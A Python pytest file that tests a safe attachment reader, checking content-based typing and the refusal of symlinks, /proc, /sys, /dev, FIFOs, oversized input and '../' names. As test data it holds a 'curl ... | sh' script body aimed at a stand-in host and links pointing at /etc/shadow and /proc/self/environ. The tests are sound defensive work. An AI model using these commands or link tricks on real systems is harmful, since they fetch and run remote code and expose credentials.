"""Attachments are read only from regular files the applicant could name safely, typed by content.

Real files, links, FIFOs and /proc on this machine; real libmagic. The links an applicant could
plant are made theirs (``lchown`` to nobody), since these tests run as root and root's own links
in root-only directories are the kind the reader trusts (``/bin -> usr/bin``).
"""

from __future__ import annotations

import hashlib
import io
import os
from pathlib import Path

import pytest

from tests.support.attachment_samples import jpeg_bytes, pdf_bytes, png_bytes
from toolkit.commands import attachment_files
from toolkit.commands.attachment_files import from_bytes, from_path, from_stream
from toolkit.domain.tickets.models import MAX_ATTACHMENT_BYTES
from toolkit.errors import InvalidInputError

KIND = "surat_permohonan"
NOBODY = 65534
SECRET = b"root:$6$CANARY-shadow-hash:19000:0:99999:7:::\n"


def _refused(path: Path | str, reason: str, **kwargs: int) -> InvalidInputError:
    with pytest.raises(InvalidInputError) as caught:
        from_path(KIND, str(path), **kwargs)
    assert caught.value.details["errors"] == [(KIND, reason)], caught.value
    assert "CANARY" not in str(caught.value)
    return caught.value


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "shadow"
    path.write_bytes(SECRET)
    path.chmod(0o600)
    return path


def _applicants_link(link: Path, target: Path | str) -> Path:
    link.symlink_to(target)
    if os.geteuid() == 0:
        os.lchown(link, NOBODY, NOBODY)
    return link


def test_a_real_pdf_is_read_with_its_content_type(tmp_path):
    path = tmp_path / "surat.pdf"
    path.write_bytes(pdf_bytes())
    upload = from_path(KIND, str(path))
    assert (upload.name, upload.media_type, upload.kind) == ("surat.pdf", "application/pdf", KIND)
    assert upload.content == pdf_bytes()


@pytest.mark.parametrize(("make", "media_type"), [(png_bytes, "image/png"), (jpeg_bytes, "image/jpeg")])
def test_images_are_typed_by_content_whatever_their_name(tmp_path, make, media_type):
    path = tmp_path / "ktp.dat"
    path.write_bytes(make())
    assert from_path("kartu_identitas", str(path)).media_type == media_type


def test_a_shell_script_named_pdf_is_typed_as_a_script(tmp_path):
    path = tmp_path / "notpdf.pdf"
    path.write_bytes(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    assert from_path(KIND, str(path)).media_type == "text/x-shellscript"


@pytest.mark.parametrize("target", ["secret", "/etc/shadow"])
def test_a_link_as_the_file_is_refused(tmp_path, secret, target):
    link = _applicants_link(tmp_path / "x.pdf", secret if target == "secret" else target)
    _refused(link, "symbolic link")


def test_even_roots_own_link_is_refused_as_the_file(tmp_path, secret):
    link = tmp_path / "x.pdf"
    link.symlink_to(secret)
    _refused(link, "symbolic link")


def test_a_link_in_a_parent_directory_is_refused(tmp_path, secret, monkeypatch):
    real = tmp_path / "real"
    real.mkdir()
    (real / "shadow.pdf").symlink_to(secret)  # not even reached: the directory link is refused first
    (real / "surat.pdf").write_bytes(pdf_bytes())
    _applicants_link(tmp_path / "via", real)
    _refused(tmp_path / "via" / "surat.pdf", "symbolic link")
    monkeypatch.chdir(tmp_path)
    _refused("via/surat.pdf", "symbolic link")
    _refused("real/../via/surat.pdf", "symbolic link")


@pytest.mark.skipif(os.geteuid() != 0, reason="root's own links need root to make")
def test_roots_link_in_a_root_only_directory_is_followed_but_not_in_a_shared_one(tmp_path):
    system = tmp_path / "system"
    system.mkdir()
    system.chmod(0o755)
    real = tmp_path / "real"
    real.mkdir()
    (real / "surat.pdf").write_bytes(pdf_bytes())
    (system / "docs").symlink_to(real)  # like /bin -> usr/bin: root's, where only root writes
    assert from_path(KIND, str(system / "docs" / "surat.pdf")).media_type == "application/pdf"
    system.chmod(0o1777)  # anyone could have put it there
    _refused(system / "docs" / "surat.pdf", "symbolic link")


def test_proc_is_refused_directly_through_a_link_and_through_roots_links(tmp_path):
    _refused("/proc/self/environ", "special file system")
    _refused("/proc/self/../self/environ", "special file system")
    _refused(_applicants_link(tmp_path / "env.pdf", "/proc/self/environ"), "symbolic link")
    system = tmp_path / "system"
    system.mkdir()
    system.chmod(0o755)
    (system / "p").symlink_to("/proc")  # a trusted link still ends in /proc: refused by where it ends
    _refused(system / "p" / "self" / "environ", "special file system")
    _refused("/sys/kernel/uevent_seqnum", "special file system")
    _refused("/dev/null", "special file system")


def test_a_fifo_and_a_directory_are_refused_without_blocking(tmp_path):
    fifo = tmp_path / "surat.pdf"
    os.mkfifo(fifo)  # opening it for reading without O_NONBLOCK would wait for a writer forever
    _refused(fifo, "not a regular file")
    _refused(tmp_path, "not a regular file")


def test_missing_files_keep_their_message(tmp_path):
    error = _refused(tmp_path / "tidak-ada.pdf", "file not found")
    assert str(error) == f"attachment file not found: {str(tmp_path / 'tidak-ada.pdf')!r}"
    _refused(tmp_path / "tidak-ada" / "surat.pdf", "file not found")
    _refused("", "file not found")


def test_oversized_is_refused_by_the_bytes_read(tmp_path):
    big = tmp_path / "besar.pdf"
    with big.open("wb") as handle:
        handle.write(b"%PDF-1.4\n")
        handle.truncate(MAX_ATTACHMENT_BYTES + 1)
    error = _refused(big, "too large")
    assert str(error) == f"attachment 'besar.pdf' is larger than {MAX_ATTACHMENT_BYTES} bytes"
    exact = tmp_path / "pas.pdf"
    exact.write_bytes(pdf_bytes())
    assert from_path(KIND, str(exact), limit=len(pdf_bytes())).content == pdf_bytes()
    _refused(exact, "too large", limit=len(pdf_bytes()) - 1)


class _Endless(io.RawIOBase):
    """A stream that never ends, like /proc or a device would read; counts what was taken."""

    def __init__(self) -> None:
        self.taken = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[no-untyped-def, override]
        buffer[:] = b"A" * len(buffer)
        self.taken += len(buffer)
        return len(buffer)


def test_a_stream_is_read_no_further_than_the_limit_plus_one():
    stream = _Endless()
    with pytest.raises(InvalidInputError) as caught:
        from_stream(KIND, "unggah.pdf", stream, limit=1000)  # type: ignore[arg-type]
    assert caught.value.details["errors"] == [(KIND, "too large")]
    assert stream.taken == 1001


def test_stream_and_bytes_entry_points_share_the_checks():
    assert from_stream(KIND, "surat.pdf", io.BytesIO(pdf_bytes())).media_type == "application/pdf"
    assert from_bytes(KIND, "surat.pdf", b"#!/bin/sh\nid\n").media_type == "text/x-shellscript"
    for name, content, reason in (("kosong.pdf", b"", "empty"), ("../surat.pdf", b"x", "invalid"),
                                  ("besar.pdf", b"x" * 11, "too large")):
        with pytest.raises(InvalidInputError) as caught:
            from_bytes(KIND, name, content, limit=10)
        assert caught.value.details["errors"] == [(KIND, reason)]


def test_unknown_content_is_octet_stream():
    """Fixed high-entropy bytes, not os.urandom: random bytes now and then begin like a DOS executable
    ("MZ") or an image format, and a test must not fail by chance."""
    assert attachment_files.media_type_of(hashlib.sha512(b"spbe").digest() * 4 + b"\x00\x01") == \
        "application/octet-stream"
